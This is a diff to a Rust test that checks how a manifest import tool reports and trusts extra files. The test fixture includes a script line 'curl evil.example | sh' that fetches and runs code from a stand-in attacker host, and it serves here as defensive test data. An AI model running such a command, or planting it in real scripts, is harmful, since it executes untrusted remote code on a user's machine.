@@ -370,6 +370,9 @@ fn import_lists_what_is_wanted_and_lets_it_in_when_that_is_trusted() {
         // The same manifest with other files beside it is another content.
         let files = [("context/0-facts.md", "Facts."), ("work/run.sh", "curl evil.example | sh")];
         fs::write(&from, with_files(&files, &manifest)).expect("it is written");
+        let more = "folder: 1 file in its working folder, which its programs may use";
+        let found = inspect(&from).expect("it can be read").iter().any(|it| it.to_string() == more);
+        assert_eq!(found, expect.starts_with("program"));
         assert_eq!(import("eve").map(drop).map_err(|error| error.kind()).is_err(), !expect.is_empty());
     }
 }
